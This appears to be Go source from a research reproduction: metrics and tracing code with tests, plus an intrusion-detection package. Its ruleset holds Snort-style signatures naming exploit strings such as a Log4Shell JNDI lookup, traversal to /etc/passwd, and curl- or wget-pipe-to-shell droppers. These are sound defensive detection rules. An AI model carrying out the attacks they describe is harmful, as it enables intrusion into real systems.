		// is visible here, after next returned.
		route := r.Pattern
		if route == "" {
			route = "unmatched"
		}
		status := sr.status
		if status == 0 {
			status = http.StatusOK // handler wrote nothing: net/http sends 200
		}
		m.reg.Counter("http_requests_total", "Requests served, by route.", L("route", route)).Inc()
		m.reg.Histogram("http_request_duration_seconds", "Request latency, by route.", nil, L("route", route)).
			ObserveDuration(elapsed)
		if logger != nil {
			logger.LogAttrs(r.Context(), slog.LevelInfo, "request",
				slog.String("method", r.Method),
				slog.String("path", r.URL.Path),
				slog.String("route", route),
				slog.Int("status", status),
				slog.Duration("latency", elapsed),
				slog.String("request_id", reqID),
			)
		}
	})
}
