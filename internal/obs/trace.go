package obs

import (
	"fmt"
	"io"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Stage tracing: cheap span timers around the hot pipeline stages
// (epoch generation, incremental assembly, verdict repair, store
// persist, table render). A span costs one time.Now at start and, at
// End, one histogram observation plus one slot write in a bounded ring
// of recent spans — nothing allocates after the ring fills. Spans are
// per-stage-invocation (per epoch, per render), never per record, so
// tracing is always-on by default; SetEnabled(false) turns StartStage
// into a no-op for benchmarks that price the instrumentation.

// Stage names used across the pipeline. Instrumentation sites and the
// docs both reference these constants so the names cannot drift.
const (
	StageEpochGeneration     = "epoch_generation"     // core.GenerateEpochs: one full generator pass
	StageIncrementalAssembly = "incremental_assembly" // core.Incremental.Advance: one epoch folded in
	StageVerdictRepair       = "verdict_repair"       // core.Incremental.repairFlips: in-place verdict repair
	StageSnapshotRebuild     = "snapshot_rebuild"     // core.EpochSet.Snapshot: from-scratch non-tip prefix
	StageStorePersist        = "store_persist"        // store segment write / manifest advance
	StageTableRender         = "table_render"         // core.RenderExperiment(AtK): one table or figure
)

// StageHistogramName is the histogram family every span observes into,
// labeled by stage.
const StageHistogramName = "stage_duration_seconds"

// enabled gates span creation. Metrics (counters, gauges, direct
// histogram observations) are not gated — they are single atomic ops
// on paths that run per epoch or per request, never per record.
var enabled atomic.Bool

func init() { enabled.Store(true) }

// SetEnabled turns stage tracing on or off process-wide. Off, spans
// record nothing and cost one atomic load.
func SetEnabled(on bool) { enabled.Store(on) }

// Enabled reports whether stage tracing is on.
func Enabled() bool { return enabled.Load() }

// SpanRecord is one finished span in the ring.
type SpanRecord struct {
	Stage      string    `json:"stage"`
	Start      time.Time `json:"start"`
	DurationMS float64   `json:"duration_ms"`
}

// stageAgg is the all-time aggregate of one stage (the ring only keeps
// recent spans; totals never drop).
type stageAgg struct {
	count   uint64
	totalNS int64
	maxNS   int64
}

// Tracer owns the ring of recent spans and the per-stage aggregates.
type Tracer struct {
	mu    sync.Mutex
	ring  []SpanRecord
	next  int
	total uint64
	aggs  map[string]*stageAgg
}

// DefaultTraceCapacity bounds the default tracer's ring: enough to
// hold a full default sweep's renders (8 prefixes × 10 K × 2 tables)
// plus the ingest chain around it.
const DefaultTraceCapacity = 512

// NewTracer returns a tracer retaining the most recent capacity spans.
func NewTracer(capacity int) *Tracer {
	if capacity < 1 {
		capacity = 1
	}
	return &Tracer{ring: make([]SpanRecord, 0, capacity), aggs: map[string]*stageAgg{}}
}

var defaultTracer = NewTracer(DefaultTraceCapacity)

// DefaultTracer returns the process-wide tracer GET /v1/trace and the
// -trace CLI flag read.
func DefaultTracer() *Tracer { return defaultTracer }

func (t *Tracer) record(rec SpanRecord) {
	t.mu.Lock()
	if len(t.ring) < cap(t.ring) {
		t.ring = append(t.ring, rec)
	} else {
		t.ring[t.next] = rec
	}
	t.next = (t.next + 1) % cap(t.ring)
	t.total++
	agg := t.aggs[rec.Stage]
	if agg == nil {
		agg = &stageAgg{}
		t.aggs[rec.Stage] = agg
	}
	agg.count++
	ns := int64(rec.DurationMS * 1e6)
	agg.totalNS += ns
	if ns > agg.maxNS {
		agg.maxNS = ns
	}
	t.mu.Unlock()
}

// Recent returns the retained spans, oldest first.
func (t *Tracer) Recent() []SpanRecord {
	t.mu.Lock()
	defer t.mu.Unlock()
	if len(t.ring) < cap(t.ring) {
		return append([]SpanRecord(nil), t.ring...)
	}
	out := make([]SpanRecord, 0, len(t.ring))
	out = append(out, t.ring[t.next:]...)
	return append(out, t.ring[:t.next]...)
}

// Total returns how many spans were ever recorded (retained or not).
func (t *Tracer) Total() uint64 {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.total
}

// Capacity returns the ring bound.
func (t *Tracer) Capacity() int { return cap(t.ring) }

// StageSummary is the per-stage breakdown: all-time count/total/mean/
// max from the aggregates, median over the spans still in the ring.
type StageSummary struct {
	Stage    string  `json:"stage"`
	Count    uint64  `json:"count"`
	TotalMS  float64 `json:"total_ms"`
	MeanMS   float64 `json:"mean_ms"`
	MedianMS float64 `json:"median_ms"` // over retained spans only
	MaxMS    float64 `json:"max_ms"`
}

// Summary returns one row per stage seen so far, sorted by descending
// total time — the stage eating the run floats to the top.
func (t *Tracer) Summary() []StageSummary {
	recent := t.Recent()
	byStage := map[string][]float64{}
	for _, rec := range recent {
		byStage[rec.Stage] = append(byStage[rec.Stage], rec.DurationMS)
	}
	t.mu.Lock()
	out := make([]StageSummary, 0, len(t.aggs))
	for stage, agg := range t.aggs {
		s := StageSummary{
			Stage:   stage,
			Count:   agg.count,
			TotalMS: float64(agg.totalNS) / 1e6,
			MaxMS:   float64(agg.maxNS) / 1e6,
		}
		if agg.count > 0 {
			s.MeanMS = s.TotalMS / float64(agg.count)
		}
		out = append(out, s)
	}
	t.mu.Unlock()
	for i := range out {
		if ds := byStage[out[i].Stage]; len(ds) > 0 {
			sort.Float64s(ds)
			out[i].MedianMS = ds[len(ds)/2]
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].TotalMS != out[j].TotalMS {
			return out[i].TotalMS > out[j].TotalMS
		}
		return out[i].Stage < out[j].Stage
	})
	return out
}

// WriteSummary prints the per-stage breakdown as one `trace:` line per
// stage — the -trace CLI output, parseable by scripts/bench.sh.
func (t *Tracer) WriteSummary(w io.Writer) {
	rows := t.Summary()
	if len(rows) == 0 {
		fmt.Fprintln(w, "trace: no spans recorded")
		return
	}
	fmt.Fprintf(w, "trace: per-stage breakdown (%d spans, newest %d retained)\n", t.Total(), len(t.Recent()))
	for _, r := range rows {
		fmt.Fprintf(w, "trace: stage=%s count=%d total_ms=%.3f mean_ms=%.3f median_ms=%.3f max_ms=%.3f\n",
			r.Stage, r.Count, r.TotalMS, r.MeanMS, r.MedianMS, r.MaxMS)
	}
}

// Span is one in-flight stage timer. The zero Span (tracing disabled)
// ends as a no-op.
type Span struct {
	tracer *Tracer
	hist   *Histogram
	stage  string
	start  time.Time
}

// stageHists caches the per-stage histogram handle so StartStage does
// not resolve through the registry maps on every span.
var (
	stageHistMu sync.Mutex
	stageHists  = map[string]*Histogram{}
)

func stageHistogram(stage string) *Histogram {
	stageHistMu.Lock()
	h := stageHists[stage]
	if h == nil {
		h = Default().Histogram(StageHistogramName,
			"Latency of one pipeline stage invocation.", nil, L("stage", stage))
		stageHists[stage] = h
	}
	stageHistMu.Unlock()
	return h
}

// StartStage opens a span on the default tracer; End records it into
// the stage_duration_seconds histogram and the trace ring.
func StartStage(stage string) Span {
	if !enabled.Load() {
		return Span{}
	}
	return Span{tracer: defaultTracer, hist: stageHistogram(stage), stage: stage, start: time.Now()}
}

// End finishes the span.
func (sp Span) End() {
	if sp.tracer == nil {
		return
	}
	d := time.Since(sp.start)
	sp.hist.ObserveDuration(d)
	sp.tracer.record(SpanRecord{Stage: sp.stage, Start: sp.start, DurationMS: d.Seconds() * 1e3})
}
