package obs

import (
	"runtime/debug"
	"sync"
)

// The build version stamp: module version plus VCS revision from
// debug.ReadBuildInfo, so BENCH_*.json, crash-smoke logs, and
// /v1/status can name the binary they measured.

// VersionInfo identifies the running binary.
type VersionInfo struct {
	// Module is the main module version ("(devel)" for source builds).
	Module string `json:"module"`
	// Revision is the VCS revision the binary was built from, "" when
	// the build carried no VCS stamp (e.g. `go test` binaries).
	Revision string `json:"revision,omitempty"`
	// Dirty reports uncommitted changes at build time.
	Dirty bool `json:"dirty,omitempty"`
	// GoVersion is the toolchain that built the binary.
	GoVersion string `json:"go_version"`
}

// String renders the stamp for logs: "(devel) rev 5162869a dirty".
func (v VersionInfo) String() string {
	s := v.Module
	if s == "" {
		s = "unknown"
	}
	if v.Revision != "" {
		rev := v.Revision
		if len(rev) > 12 {
			rev = rev[:12]
		}
		s += " rev " + rev
	}
	if v.Dirty {
		s += " dirty"
	}
	return s
}

var (
	versionOnce sync.Once
	versionInfo VersionInfo
)

// Version returns the build stamp of the running binary, read once
// from debug.ReadBuildInfo.
func Version() VersionInfo {
	versionOnce.Do(func() {
		versionInfo = VersionInfo{Module: "unknown"}
		bi, ok := debug.ReadBuildInfo()
		if !ok {
			return
		}
		versionInfo.Module = bi.Main.Version
		if versionInfo.Module == "" {
			versionInfo.Module = "(devel)"
		}
		versionInfo.GoVersion = bi.GoVersion
		for _, kv := range bi.Settings {
			switch kv.Key {
			case "vcs.revision":
				versionInfo.Revision = kv.Value
			case "vcs.modified":
				versionInfo.Dirty = kv.Value == "true"
			}
		}
	})
	return versionInfo
}
