package obs

import (
	"strings"
	"sync"
	"testing"
)

// TestWritePrometheusGolden pins the exact text exposition of a small
// registry: HELP/TYPE lines, family and child ordering, label
// rendering, and the cumulative-bucket histogram encoding.
func TestWritePrometheusGolden(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("alpha_total", "Alpha.")
	c.Inc()
	c.Inc()
	r.Gauge("beta", "Beta.").Set(-3)
	h := r.Histogram("gamma_seconds", "Gamma.", []float64{0.1, 1}, L("stage", "x"))
	h.Observe(0.05)
	h.Observe(0.1) // exactly at a bound: le is inclusive
	h.Observe(0.5)
	h.Observe(5) // beyond the last bound: +Inf bucket

	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	want := `# HELP alpha_total Alpha.
# TYPE alpha_total counter
alpha_total 2
# HELP beta Beta.
# TYPE beta gauge
beta -3
# HELP gamma_seconds Gamma.
# TYPE gamma_seconds histogram
gamma_seconds_bucket{stage="x",le="0.1"} 2
gamma_seconds_bucket{stage="x",le="1"} 3
gamma_seconds_bucket{stage="x",le="+Inf"} 4
gamma_seconds_sum{stage="x"} 5.65
gamma_seconds_count{stage="x"} 4
`
	if got := b.String(); got != want {
		t.Errorf("exposition mismatch:\ngot:\n%s\nwant:\n%s", got, want)
	}
}

// TestPrometheusEscaping covers label-value and HELP escaping: quotes
// and backslashes in label values, newlines in help text.
func TestPrometheusEscaping(t *testing.T) {
	r := NewRegistry()
	r.Counter("esc_total", "line one\nline two", L("path", `C:\x "quoted"`)).Inc()
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	got := b.String()
	for _, want := range []string{
		`# HELP esc_total line one\nline two`,
		`esc_total{path="C:\\x \"quoted\""} 1`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("exposition missing %q:\n%s", want, got)
		}
	}
}

// TestConcurrentIncrements hammers one counter, gauge, and histogram
// from many goroutines and asserts exact totals. Run under -race this
// also proves the instruments are data-race free.
func TestConcurrentIncrements(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("c_total", "")
	g := r.Gauge("g", "")
	h := r.Histogram("h_seconds", "", []float64{0.001, 1})

	const goroutines, per = 8, 10000
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < per; j++ {
				c.Inc()
				g.Add(1)
				h.Observe(0.0005)
			}
		}()
	}
	wg.Wait()

	const want = goroutines * per
	if got := c.Value(); got != want {
		t.Errorf("counter = %d, want %d", got, want)
	}
	if got := g.Value(); got != want {
		t.Errorf("gauge = %d, want %d", got, want)
	}
	if got := h.Count(); got != want {
		t.Errorf("histogram count = %d, want %d", got, want)
	}
	counts, total := h.cumulative()
	if counts[0] != want || total != want {
		t.Errorf("cumulative = %v/%d, want all %d", counts, total, want)
	}
}

// TestHistogramBucketBoundaries pins the le-inclusive bucket choice for
// values below, at, between, and beyond the configured bounds.
func TestHistogramBucketBoundaries(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("hb_seconds", "", []float64{0.01, 0.1, 1})

	if _, ok := h.Quantile(0.5); ok {
		t.Error("Quantile before any observation should report ok=false")
	}

	cases := []struct {
		v      float64
		bucket int // index into cumulative counts; 3 means +Inf
	}{
		{0.001, 0}, // below first bound
		{0.01, 0},  // exactly at a bound: inclusive
		{0.05, 1},  // between bounds: next bucket up
		{0.1, 1},
		{1, 2},
		{1.0001, 3}, // beyond the last bound
	}
	for i, tc := range cases {
		before, beforeTotal := h.cumulative()
		h.Observe(tc.v)
		after, afterTotal := h.cumulative()
		if afterTotal != beforeTotal+1 {
			t.Fatalf("case %d: total %d -> %d", i, beforeTotal, afterTotal)
		}
		// Cumulative counts: every bucket at or after the landing one
		// grows by one, every earlier bucket is unchanged.
		for b := 0; b < len(after); b++ {
			wantDelta := uint64(0)
			if b >= tc.bucket {
				wantDelta = 1
			}
			if after[b]-before[b] != wantDelta {
				t.Errorf("Observe(%v): bucket %d delta = %d, want %d", tc.v, b, after[b]-before[b], wantDelta)
			}
		}
	}
	if got, want := h.Count(), uint64(len(cases)); got != want {
		t.Errorf("count = %d, want %d", got, want)
	}
}

// TestRegistryReuseAndKindMismatch: same name+labels yields the same
// instrument; same name at a different kind panics.
func TestRegistryReuseAndKindMismatch(t *testing.T) {
	r := NewRegistry()
	a := r.Counter("x_total", "", L("k", "v"))
	b := r.Counter("x_total", "", L("k", "v"))
	if a != b {
		t.Error("same name+labels returned distinct counters")
	}
	if c := r.Counter("x_total", "", L("k", "other")); c == a {
		t.Error("distinct label sets returned the same counter")
	}
	defer func() {
		if recover() == nil {
			t.Error("registering x_total as a gauge should panic")
		}
	}()
	r.Gauge("x_total", "")
}

// TestTracerRing covers ring rotation, oldest-first Recent order, and
// the summary aggregates surviving eviction from the ring.
func TestTracerRing(t *testing.T) {
	tr := NewTracer(2)
	tr.record(SpanRecord{Stage: "a", DurationMS: 1})
	tr.record(SpanRecord{Stage: "b", DurationMS: 2})
	tr.record(SpanRecord{Stage: "a", DurationMS: 4})

	if got := tr.Total(); got != 3 {
		t.Errorf("total = %d, want 3", got)
	}
	recent := tr.Recent()
	if len(recent) != 2 || recent[0].Stage != "b" || recent[1].Stage != "a" {
		t.Errorf("recent = %+v, want [b a] oldest first", recent)
	}
	// The evicted span still counts in the aggregates: stage a has two
	// spans totalling 5ms even though only one remains in the ring.
	for _, s := range tr.Summary() {
		if s.Stage == "a" {
			if s.Count != 2 || s.TotalMS != 5 || s.MaxMS != 4 {
				t.Errorf("stage a summary = %+v", s)
			}
		}
	}
}
