package obs

import (
	"bufio"
	"io"
	"strconv"
	"strings"
)

// This file is the two expositions of a Registry: the Prometheus text
// format (GET /metrics — what a scraper ingests) and a JSON snapshot
// (GET /v1/metrics — what a human with curl reads). Both iterate the
// same deterministic family/child order, so diffs between consecutive
// scrapes are value diffs, never ordering noise.

// escapeHelp escapes a HELP annotation per the Prometheus text format.
func escapeHelp(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// escapeLabel escapes a label value per the Prometheus text format.
func escapeLabel(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, `"`, `\"`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// promLabels renders a label set as {k="v",...}, with extra appended
// last (the histogram `le` bound); empty input renders as "".
func promLabels(labels []Label, extra ...Label) string {
	all := append(append([]Label(nil), labels...), extra...)
	if len(all) == 0 {
		return ""
	}
	var b strings.Builder
	b.WriteByte('{')
	for i, l := range all {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Key)
		b.WriteString(`="`)
		b.WriteString(escapeLabel(l.Value))
		b.WriteByte('"')
	}
	b.WriteByte('}')
	return b.String()
}

// WritePrometheus writes every registered metric in the Prometheus
// text exposition format (version 0.0.4): one HELP and TYPE line per
// family, one sample line per child — counters and gauges as a single
// value, histograms as cumulative _bucket series plus _sum and _count.
func (r *Registry) WritePrometheus(w io.Writer) error {
	bw := bufio.NewWriter(w)
	for _, f := range r.families() {
		if f.help != "" {
			bw.WriteString("# HELP " + f.name + " " + escapeHelp(f.help) + "\n")
		}
		bw.WriteString("# TYPE " + f.name + " " + f.kind + "\n")
		for _, c := range f.sortedChildren() {
			switch m := c.m.(type) {
			case *Counter:
				bw.WriteString(f.name + promLabels(c.labels) + " " + formatInt(m.Value()) + "\n")
			case *Gauge:
				bw.WriteString(f.name + promLabels(c.labels) + " " + formatInt(m.Value()) + "\n")
			case *Histogram:
				counts, total := m.cumulative()
				for i, b := range m.bounds {
					bw.WriteString(f.name + "_bucket" + promLabels(c.labels, L("le", formatFloat(b))) +
						" " + formatUint(counts[i]) + "\n")
				}
				bw.WriteString(f.name + "_bucket" + promLabels(c.labels, L("le", "+Inf")) +
					" " + formatUint(total) + "\n")
				bw.WriteString(f.name + "_sum" + promLabels(c.labels) + " " + formatFloat(m.Sum()) + "\n")
				bw.WriteString(f.name + "_count" + promLabels(c.labels) + " " + formatUint(total) + "\n")
			}
		}
	}
	return bw.Flush()
}

// BucketSnapshot is one cumulative histogram bucket in the JSON
// exposition; LE is a string so "+Inf" survives JSON.
type BucketSnapshot struct {
	LE    string `json:"le"`
	Count uint64 `json:"count"`
}

// ValueSnapshot is one time series in the JSON exposition.
type ValueSnapshot struct {
	Labels map[string]string `json:"labels,omitempty"`
	// Counters and gauges.
	Value *int64 `json:"value,omitempty"`
	// Histograms.
	Count      *uint64          `json:"count,omitempty"`
	SumSeconds *float64         `json:"sum_seconds,omitempty"`
	P50Seconds *float64         `json:"p50_seconds,omitempty"`
	P99Seconds *float64         `json:"p99_seconds,omitempty"`
	Buckets    []BucketSnapshot `json:"buckets,omitempty"`
}

// FamilySnapshot is one metric family in the JSON exposition.
type FamilySnapshot struct {
	Name   string          `json:"name"`
	Type   string          `json:"type"`
	Help   string          `json:"help,omitempty"`
	Values []ValueSnapshot `json:"values"`
}

// MetricsSnapshot is the full JSON exposition of a registry.
type MetricsSnapshot struct {
	Metrics []FamilySnapshot `json:"metrics"`
}

// Snapshot captures every registered metric for the JSON exposition,
// in the same deterministic order as WritePrometheus. Histograms carry
// interpolated p50/p99 next to the raw buckets so a curl of
// /v1/metrics answers "how slow" without client-side math.
func (r *Registry) Snapshot() MetricsSnapshot {
	var snap MetricsSnapshot
	for _, f := range r.families() {
		fs := FamilySnapshot{Name: f.name, Type: f.kind, Help: f.help, Values: []ValueSnapshot{}}
		for _, c := range f.sortedChildren() {
			vs := ValueSnapshot{}
			if len(c.labels) > 0 {
				vs.Labels = map[string]string{}
				for _, l := range c.labels {
					vs.Labels[l.Key] = l.Value
				}
			}
			switch m := c.m.(type) {
			case *Counter:
				v := m.Value()
				vs.Value = &v
			case *Gauge:
				v := m.Value()
				vs.Value = &v
			case *Histogram:
				counts, total := m.cumulative()
				sum := m.Sum()
				vs.Count, vs.SumSeconds = &total, &sum
				if p50, ok := m.Quantile(0.50); ok {
					p99, _ := m.Quantile(0.99)
					vs.P50Seconds, vs.P99Seconds = &p50, &p99
				}
				for i, b := range m.bounds {
					vs.Buckets = append(vs.Buckets, BucketSnapshot{LE: formatFloat(b), Count: counts[i]})
				}
				vs.Buckets = append(vs.Buckets, BucketSnapshot{LE: "+Inf", Count: total})
			}
			fs.Values = append(fs.Values, vs)
		}
		snap.Metrics = append(snap.Metrics, fs)
	}
	return snap
}

func formatInt(v int64) string   { return strconv.FormatInt(v, 10) }
func formatUint(v uint64) string { return strconv.FormatUint(v, 10) }
