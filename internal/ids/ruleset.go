package ids

import "sync"

// DefaultRuleText is the curated ruleset used throughout the
// reproduction. It mirrors the paper's §3.2 filtering of the Emerging
// Threats corpus: content-based rules only (no IP/port blocklists),
// restricted to the eight classtypes the paper retains, each verified
// to fire only on payloads that bypass authority or alter service
// state (plus recon/misc rules that alert without marking
// maliciousness).
const DefaultRuleText = `
# --- Web application exploitation -------------------------------------------
alert tcp any any -> any any (msg:"EXPLOIT Log4Shell JNDI lookup attempt (CVE-2021-44228)"; content:"${jndi:"; nocase; classtype:attempted-admin; sid:1000001; rev:3;)
alert tcp any any -> any any (msg:"EXPLOIT Shellshock bash env injection (CVE-2014-6271)"; content:"() {"; content:"|3B|"; within:20; classtype:attempted-admin; sid:1000002; rev:2;)
alert tcp any any -> any any (msg:"EXPLOIT PHPUnit eval-stdin remote code execution (CVE-2017-9841)"; content:"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"; classtype:web-application-attack; sid:1000003;)
alert tcp any any -> any any (msg:"EXPLOIT ThinkPHP invokefunction RCE"; content:"invokefunction"; content:"call_user_func_array"; distance:0; classtype:web-application-attack; sid:1000004;)
alert tcp any any -> any any (msg:"EXPLOIT GPON router authentication bypass (CVE-2018-10561)"; content:"/GponForm/diag_Form"; classtype:attempted-admin; sid:1000005;)
alert tcp any any -> any any (msg:"EXPLOIT Huawei HG532 SOAP RCE (CVE-2017-17215)"; content:"/ctrlt/DeviceUpgrade_1"; classtype:attempted-admin; sid:1000006;)
alert tcp any any -> any any (msg:"EXPLOIT Linksys E-series tmUnblock RCE (TheMoon)"; content:"/tmUnblock.cgi"; classtype:attempted-admin; sid:1000007;)
alert tcp any any -> any any (msg:"EXPLOIT NETGEAR DGN setup.cgi unauthenticated command execution"; content:"/setup.cgi?next_file=netgear.cfg"; classtype:attempted-admin; sid:1000008;)
alert tcp any any -> any any (msg:"EXPLOIT D-Link HNAP1 SOAPAction command injection"; content:"/HNAP1"; content:"SOAPAction"; nocase; classtype:attempted-admin; sid:1000009;)
alert tcp any any -> any any (msg:"EXPLOIT Realtek miniigd UPnP SOAP command execution (CVE-2014-8361)"; content:"/picsdesc.xml"; classtype:attempted-admin; sid:1000010;)
alert tcp any any -> any any (msg:"EXPLOIT JAWS webserver unauthenticated shell command"; content:"/shell?cd+/tmp"; classtype:trojan-activity; sid:1000011;)
alert tcp any any -> any any (msg:"EXPLOIT Citrix ADC path traversal (CVE-2019-19781)"; content:"/vpn/../vpns/"; classtype:web-application-attack; sid:1000012;)
alert tcp any any -> any any (msg:"EXPLOIT F5 BIG-IP TMUI path traversal (CVE-2020-5902)"; content:"/tmui/login.jsp/..|3B|/"; classtype:web-application-attack; sid:1000013;)
alert tcp any any -> any any (msg:"EXPLOIT Hadoop YARN unauthenticated application submission"; content:"/ws/v1/cluster/apps/new-application"; classtype:attempted-user; sid:1000014;)
alert tcp any any -> any any (msg:"EXPLOIT Docker Engine API unauthenticated container create"; content:"/containers/create"; content:"POST"; offset:0; depth:5; classtype:attempted-user; sid:1000015;)
alert tcp any any -> any any (msg:"EXPLOIT Jenkins CLI deserialization probe"; content:"/cli?remoting=false"; classtype:attempted-user; sid:1000016;)
alert tcp any any -> any any (msg:"EXPLOIT Spring Boot actuator gateway abuse"; content:"/actuator/gateway/routes"; classtype:attempted-user; sid:1000017;)
alert tcp any any -> any any (msg:"EXPLOIT Boa/boaform admin login bruteforce (Netlink GPON)"; content:"/boaform/admin/formLogin"; classtype:attempted-admin; sid:1000018;)
alert tcp any any -> any any (msg:"ATTACK SQL injection UNION SELECT in request"; content:"union"; nocase; content:"select"; nocase; distance:1; within:40; classtype:web-application-attack; sid:1000019;)
alert tcp any any -> any any (msg:"ATTACK directory traversal to /etc/passwd"; content:"../"; content:"/etc/passwd"; distance:0; classtype:web-application-attack; sid:1000020;)
alert tcp any any -> any any (msg:"ATTACK directory traversal to /etc/shadow"; content:"/etc/shadow"; classtype:bad-unknown; sid:1000021;)
alert tcp any any -> any any (msg:"EXPLOIT Tomcat manager deployment attempt"; content:"PUT /manager/"; offset:0; depth:13; classtype:attempted-admin; sid:1000022;)
alert tcp any any -> any any (msg:"EXPLOIT Exchange ProxyLogon SSRF (CVE-2021-26855)"; content:"/ecp/"; content:"X-BEResource"; nocase; classtype:attempted-admin; sid:1000023;)
alert tcp any any -> any any (msg:"ATTACK WordPress xmlrpc.php pingback abuse"; content:"/xmlrpc.php"; content:"pingback.ping"; classtype:web-application-attack; sid:1000024;)
alert tcp any any -> any any (msg:"ATTACK WordPress wp-login.php bruteforce POST"; content:"POST"; offset:0; depth:4; content:"/wp-login.php"; distance:1; within:20; classtype:attempted-user; sid:1000025;)
alert tcp any any -> any any (msg:"EXPLOIT Apache normalize_path traversal RCE (CVE-2021-41773)"; content:"/cgi-bin/.%2e/"; classtype:web-application-attack; sid:1000026;)

# --- Malware / botnet delivery ----------------------------------------------
alert tcp any any -> any any (msg:"TROJAN wget-to-shell dropper command"; content:"wget http"; content:"|3B| sh"; distance:0; classtype:trojan-activity; sid:1000027;)
alert tcp any any -> any any (msg:"TROJAN curl-pipe-shell dropper command"; content:"curl "; content:"|7C| sh"; distance:0; classtype:trojan-activity; sid:1000028;)
alert tcp any any -> any any (msg:"TROJAN busybox invocation in remote command (Mirai-style)"; content:"/bin/busybox"; nocase; classtype:trojan-activity; sid:1000029;)
alert tcp any any -> any any (msg:"TROJAN Mozi botnet UPnP propagation URI"; content:"Mozi.m"; classtype:trojan-activity; sid:1000030;)
alert tcp any any -> any any (msg:"TROJAN ADB remote shell payload over TCP 5555"; content:"OPEN"; offset:0; depth:4; content:"shell:"; classtype:trojan-activity; sid:1000031;)
alert tcp any any -> any any (msg:"TROJAN chmod 777 staging of dropped binary"; content:"chmod 777"; content:"./"; distance:0; within:20; classtype:trojan-activity; sid:1000032;)

# --- Service state alteration ------------------------------------------------
alert tcp any any -> any any (msg:"ATTACK Redis CONFIG SET dir persistence attempt"; content:"CONFIG"; nocase; content:"SET"; nocase; distance:1; within:10; content:"dir"; nocase; distance:1; within:30; classtype:attempted-admin; sid:1000033;)
alert tcp any any -> any any (msg:"ATTACK Redis SLAVEOF takeover attempt"; content:"SLAVEOF"; nocase; classtype:attempted-admin; sid:1000034;)
alert tcp any any -> any any (msg:"ATTACK crontab modification in remote command"; content:"crontab -"; classtype:attempted-admin; sid:1000035;)
alert tcp any any -> any 80 (msg:"PROTOCOL SMB negotiate on HTTP-assigned port"; content:"|FF|SMB"; offset:4; depth:8; classtype:protocol-command-decode; sid:1000036;)
alert tcp any any -> any any (msg:"PROTOCOL telnet IAC negotiation embedded in HTTP-port payload"; content:"|FF FB|"; offset:0; depth:2; classtype:protocol-command-decode; sid:1000037;)

# --- Reconnaissance & misc (alerts, not malicious on their own) --------------
alert tcp any any -> any any (msg:"RECON Tomcat manager probe"; content:"GET /manager/html"; offset:0; depth:17; classtype:attempted-recon; sid:1000038;)
alert tcp any any -> any any (msg:"RECON phpMyAdmin panel probe"; content:"/phpmyadmin"; nocase; classtype:attempted-recon; sid:1000039;)
alert tcp any any -> any any (msg:"RECON environment file disclosure probe"; content:"GET /.env"; offset:0; depth:9; classtype:attempted-recon; sid:1000040;)
alert tcp any any -> any any (msg:"RECON git repository disclosure probe"; content:"/.git/config"; classtype:attempted-recon; sid:1000041;)
alert tcp any any -> any any (msg:"RECON nmap http scripting engine user-agent"; content:"Nmap Scripting Engine"; nocase; classtype:attempted-recon; sid:1000042;)
alert tcp any any -> any any (msg:"MISC zgrab research scanner user-agent"; content:"Mozilla/5.0 zgrab"; classtype:misc-activity; sid:1000043;)
alert tcp any any -> any any (msg:"MISC masscan banner check"; content:"User-Agent: masscan"; nocase; classtype:misc-activity; sid:1000044;)
alert tcp any any -> any any (msg:"MISC open proxy CONNECT probe"; content:"CONNECT "; offset:0; depth:8; classtype:misc-activity; sid:1000045;)
`

var (
	defaultOnce   sync.Once
	defaultEngine *Engine
	defaultErr    error
)

// DefaultEngine returns the engine compiled from DefaultRuleText. The
// ruleset is a package constant, so compilation happens once; a parse
// failure is a programming error and panics.
func DefaultEngine() *Engine {
	defaultOnce.Do(func() {
		defaultEngine, defaultErr = NewEngineFromText(DefaultRuleText)
	})
	if defaultErr != nil {
		panic("ids: default ruleset failed to compile: " + defaultErr.Error())
	}
	return defaultEngine
}
