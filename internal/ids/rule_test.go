package ids

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"
)

func mustRule(t *testing.T, line string) Rule {
	t.Helper()
	r, ok, err := ParseRule(line)
	if err != nil {
		t.Fatalf("ParseRule(%q): %v", line, err)
	}
	if !ok {
		t.Fatalf("ParseRule(%q): not a rule", line)
	}
	return r
}

func TestParseRuleBasic(t *testing.T) {
	r := mustRule(t, `alert tcp any any -> any 80 (msg:"test rule"; content:"abc"; nocase; classtype:attempted-admin; sid:42; rev:7;)`)
	if r.Action != "alert" || r.Proto != "tcp" {
		t.Errorf("header: %+v", r)
	}
	if r.Msg != "test rule" || r.Classtype != AttemptedAdmin || r.SID != 42 || r.Rev != 7 {
		t.Errorf("options: %+v", r)
	}
	if len(r.Contents) != 1 || string(r.Contents[0].Pattern) != "abc" || !r.Contents[0].Nocase {
		t.Errorf("contents: %+v", r.Contents)
	}
	if !r.Ports.Contains(80) || r.Ports.Contains(81) {
		t.Error("port set wrong")
	}
}

func TestParseRuleCommentsAndBlank(t *testing.T) {
	for _, line := range []string{"", "   ", "# comment", "  # indented comment"} {
		_, ok, err := ParseRule(line)
		if err != nil || ok {
			t.Errorf("ParseRule(%q) = ok=%v err=%v, want skip", line, ok, err)
		}
	}
}

func TestParseRulePortForms(t *testing.T) {
	r := mustRule(t, `alert tcp any any -> any [80,8080,8000:8010] (msg:"m"; content:"x"; sid:1;)`)
	for _, p := range []uint16{80, 8080, 8000, 8005, 8010} {
		if !r.Ports.Contains(p) {
			t.Errorf("port %d should match", p)
		}
	}
	for _, p := range []uint16{81, 7999, 8011} {
		if r.Ports.Contains(p) {
			t.Errorf("port %d should not match", p)
		}
	}
}

